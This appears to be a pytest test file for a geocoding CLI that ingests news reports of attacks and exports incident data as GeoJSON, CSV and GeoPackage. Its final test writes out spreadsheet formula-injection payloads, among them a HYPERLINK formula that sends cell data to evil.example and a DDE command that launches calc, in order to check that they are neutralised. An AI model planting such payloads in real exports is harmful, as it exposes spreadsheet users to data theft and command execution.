"""`python -m geo ingest` and `export` as a user runs them: files, folders, globs, JSON Lines, web pages and
feeds from a real HTTP server, and exports that GIS tools read."""
import functools
import http.server
import json
import threading

import pytest

from conftest import ROOT, SEED
from test_cli import geo


@pytest.fixture
def corpus(tmp_path):
    folder = tmp_path / "articles" / "nested"
    folder.mkdir(parents=True)
    (folder / "seed.txt").write_text(SEED.read_text(encoding="utf-8"))
    (tmp_path / "articles" / "kabul.md").write_text(
        "Published: 2025-10-16\n\nThe Afghan government reports that a market was hit in yesterday's Pakistani "
        "airstrikes in Kabul. Hospital sources said five people were killed.\n")
    (tmp_path / "articles" / "page.html").write_text(
        "<html><head><title>Blast in Quetta</title><script>alert('x')</script></head><body><article><p>A bomb "
        "exploded at a railway station in Quetta on Saturday, killing at least 25 people and wounding 46 others, "
        "police said. The attack happened as soldiers waited for a train.</p></article></body></html>")
    (tmp_path / "articles" / "empty.txt").write_text("")
    jsonl = tmp_path / "more.jsonl"
    jsonl.write_text(json.dumps({"id": "nepal", "published": "2025-09-08", "text": "Police open fire on "
                                 "protesters in Kathmandu, Nepal, killing at least 19 people."}) + "\nnot json\n")
    return tmp_path


def test_ingest_folders_globs_and_jsonl_with_a_summary(corpus):
    db = str(corpus / "store.gpkg")
    r = geo("ingest", str(corpus / "articles"), str(corpus / "articles" / "*.md"), "--jsonl",
            str(corpus / "more.jsonl"), "--db", db, "--published", "2025-11-08")
    assert r.returncode == 1  # two inputs failed, named, and the rest went in
    assert "empty.txt: empty input" in r.stderr and "more.jsonl:2: not JSON" in r.stderr
    assert "articles: 4 new, 1 unchanged, 2 failed; incidents: 8 added, 0 merged" in r.stdout
    again = geo("ingest", str(corpus / "articles" / "nested"), "--db", db)
    assert again.returncode == 0 and "0 new, 1 unchanged" in again.stdout


def test_export_geojson_follows_rfc_7946_and_gis_tools_read_it(corpus):
    import geopandas as gpd
    db = str(corpus / "store.gpkg")
    geo("ingest", str(corpus / "articles"), "--db", db, "--published", "2025-11-08")
    out = corpus / "incidents.geojson"
    r = geo("export", "--db", db, "--format", "geojson", "-o", str(out))
    assert r.returncode == 0, r.stderr
    data = json.loads(out.read_text())
    assert data["type"] == "FeatureCollection" and "crs" not in data
    features = data["features"]
    assert len(features) == 7 and len({f["id"] for f in features}) == 7
    quetta = next(f for f in features if f["properties"]["place_name"] == "Quetta")
    lon, lat = quetta["geometry"]["coordinates"]
    assert lon == pytest.approx(66.99, abs=0.05) and lat == pytest.approx(30.19, abs=0.05)  # lon, lat order
    p = quetta["properties"]
    assert p["date"] == "2025-11-08" and p["killed"] == 25 and p["wounded"] == 46
    assert isinstance(p["actors"], list) and p["claimed_by"] == ["police"]
    assert p["evidence"].startswith("A bomb exploded") and p["sources"][0]["title"] == "Blast in Quetta"
    border = next(f for f in features if f["properties"]["date_precision"] == "month")
    assert border["geometry"] is None
    # Stable ids: the same store exports the same ids.
    geo("export", "--db", db, "-o", str(corpus / "again.geojson"))
    assert [f["id"] for f in json.loads((corpus / "again.geojson").read_text())["features"]] == \
        [f["id"] for f in features]
    frame = gpd.read_file(out)
    assert len(frame) == 7 and frame.crs.to_epsg() == 4326


def test_export_filters_csv_and_gpkg(corpus):
    import geopandas as gpd
    import pandas as pd
    db = str(corpus / "store.gpkg")
    geo("ingest", str(corpus / "articles"), "--db", db, "--published", "2025-11-08")
    csv = corpus / "af.csv"
    r = geo("export", "--db", db, "--format", "csv", "-o", str(csv), "--country", "AF", "--type",
            "explosion_remote_violence")
    assert r.returncode == 0, r.stderr
    table = pd.read_csv(csv)
    assert set(table.place_name) == {"Kabul"} and {"lon", "lat", "evidence"} <= set(table.columns)
    gpkg = corpus / "big.gpkg"
    r = geo("export", "--db", db, "--format", "gpkg", "-o", str(gpkg), "--min-casualties", "20",
            "--from", "2025-10-01", "--bbox", "60,25,75,40")
    assert r.returncode == 0, r.stderr
    assert set(gpd.read_file(gpkg).place_name) == {"Quetta"}


def test_export_to_an_unwritable_place_is_one_line_and_loses_nothing(corpus):
    db = corpus / "store.gpkg"
    geo("ingest", str(corpus / "articles" / "nested"), "--db", str(db))
    before = db.read_bytes()
    r = geo("export", "--db", str(db), "-o", str(corpus / "no" / "such" / "dir.geojson"))
    assert r.returncode == 2 and r.stderr.count("\n") == 1 and "does not exist" in r.stderr
    r = geo("export", "--db", str(db), "-o", str(corpus))
    assert r.returncode == 2 and "is a folder" in r.stderr
    r = geo("export", "--db", str(db), "-o", "/proc/x.geojson")
    assert r.returncode == 2 and "cannot write" in r.stderr
    assert db.read_bytes() == before


@pytest.fixture
def web(tmp_path):
    """A real HTTP server on loopback with two article pages and an RSS feed of them."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "quetta.html").write_text("<html><head><title>Quetta blast</title></head><body><article><p>A bomb "
                                      "exploded at a railway station in Quetta on Saturday, killing at least 25 "
                                      "people, police said.</p></article></body></html>")
    (site / "kandahar.html").write_text("<html><body><article><p>Clashes in Kandahar on Friday killed four "
                                        "soldiers, officials said, as fighting spread.</p></article></body></html>")
    server = http.server.ThreadingHTTPServer(
        ("127.0.0.1", 0), functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(site)))
    base = f"http://127.0.0.1:{server.server_port}"
    (site / "feed.xml").write_text(
        f"<?xml version='1.0'?><rss version='2.0'><channel><title>News</title>"
        f"<item><title>Blast kills 25 in Quetta</title><link>{base}/quetta.html</link>"
        f"<pubDate>Sat, 08 Nov 2025 10:00:00 GMT</pubDate></item>"
        f"<item><title>Kandahar clashes</title><link>{base}/kandahar.html</link>"
        f"<pubDate>Fri, 07 Nov 2025 18:00:00 GMT</pubDate></item>"
        f"<item><title>Gone</title><link>{base}/missing.html</link></item></channel></rss>")
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield base
    server.shutdown()


def test_ingest_urls_and_feeds(web, tmp_path):
    db = str(tmp_path / "store.gpkg")
    r = geo("ingest", f"{web}/feed.xml", "--db", db)
    assert r.returncode == 1 and "missing.html: cannot fetch: HTTP 404" in r.stderr
    assert "articles: 2 new, 0 unchanged, 1 failed" in r.stdout
    out = tmp_path / "web.geojson"
    geo("export", "--db", db, "-o", str(out))
    features = {f["properties"]["place_name"]: f["properties"] for f in json.loads(out.read_text())["features"]}
    assert features["Quetta"]["date"] == "2025-11-08" and features["Kandahār"]["date"] == "2025-11-07"
    assert features["Quetta"]["sources"][0]["url"] == f"{web}/quetta.html"
    r = geo("ingest", f"{web}/quetta.html", "--db", db)
    assert r.returncode == 0 and "0 new, 1 unchanged" in r.stdout


def test_ingest_url_offline_is_a_clear_failure(tmp_path):
    r = geo("ingest", "http://127.0.0.1:9/nothing.html", "--db", str(tmp_path / "s.gpkg"))
    assert r.returncode == 1 and "cannot fetch" in r.stderr and "needs the internet" in r.stderr


def _device(folder, name, minor):
    """A character device node of our own (1,3 is null, 1,7 is full), so a test never touches /dev."""
    import os
    import stat
    if os.geteuid() != 0:
        from conftest import IN_CI
        if IN_CI:
            pytest.fail("device tests need root, as CI runs")
        pytest.skip("making a device node needs root")
    path = folder / name
    os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, minor))
    return path


def test_export_to_stdout_a_symlink_a_fifo_and_a_device(corpus):
    import os
    import stat
    db = str(corpus / "store.gpkg")
    geo("ingest", str(corpus / "articles" / "nested"), "--db", db)
    r = geo("export", "--db", db, "-o", "-")
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["type"] == "FeatureCollection" and "incidents -> standard output" in r.stderr
    assert not (ROOT / "-").exists()
    r = geo("export", "--db", db, "--format", "csv", "-o", "-")
    assert r.returncode == 0 and r.stdout.startswith("incident_id,lon,lat,")

    target = corpus / "real.geojson"
    target.write_text("old")
    link = corpus / "link.geojson"
    link.symlink_to(target)
    assert geo("export", "--db", db, "-o", str(link)).returncode == 0
    assert link.is_symlink() and json.loads(target.read_text())["type"] == "FeatureCollection"

    fifo = corpus / "pipe.geojson"
    os.mkfifo(fifo)
    received = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    r = geo("export", "--db", db, "-o", str(fifo))
    reader.join(timeout=60)
    assert r.returncode == 0, r.stderr
    assert stat.S_ISFIFO(fifo.stat().st_mode) and json.loads(received[0])["type"] == "FeatureCollection"

    null = _device(corpus, "null", 3)
    for fmt in ("geojson", "gpkg"):
        assert geo("export", "--db", db, "--format", fmt, "-o", str(null)).returncode == 0
    assert stat.S_ISCHR(null.stat().st_mode)


def test_export_to_a_full_disk_is_one_line(corpus):
    db = str(corpus / "store.gpkg")
    geo("ingest", str(corpus / "articles" / "nested"), "--db", db)
    full = _device(corpus, "full", 7)
    for fmt in ("geojson", "csv", "gpkg"):
        r = geo("export", "--db", db, "--format", fmt, "-o", str(full))
        assert r.returncode == 2 and r.stderr.count("\n") == 1 and "No space left on device" in r.stderr, r.stderr


def test_csv_export_neutralises_spreadsheet_formulas(corpus):
    import pandas as pd
    from geo.store import Store
    db = str(corpus / "store.gpkg")
    geo("ingest", str(corpus / "articles" / "nested"), "--db", db)
    formulas = {"place_name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "notes": "+cmd|' /C calc'!A0",
                "actors": "@SUM(1+1)", "victims": "-2+3", "claimed_by": "\tTAB"}
    with Store.open(db) as store:
        store.correct(store.incidents().incident_id[0], formulas, who="test")
    out = corpus / "out.csv"
    assert geo("export", "--db", db, "--format", "csv", "-o", str(out)).returncode == 0
    row = pd.read_csv(out, keep_default_na=False).iloc[0]
    for column, value in formulas.items():
        assert row[column] == "'" + value
    assert pd.read_csv(out).lon.notna().any()  # numbers (a negative longitude too) are left alone
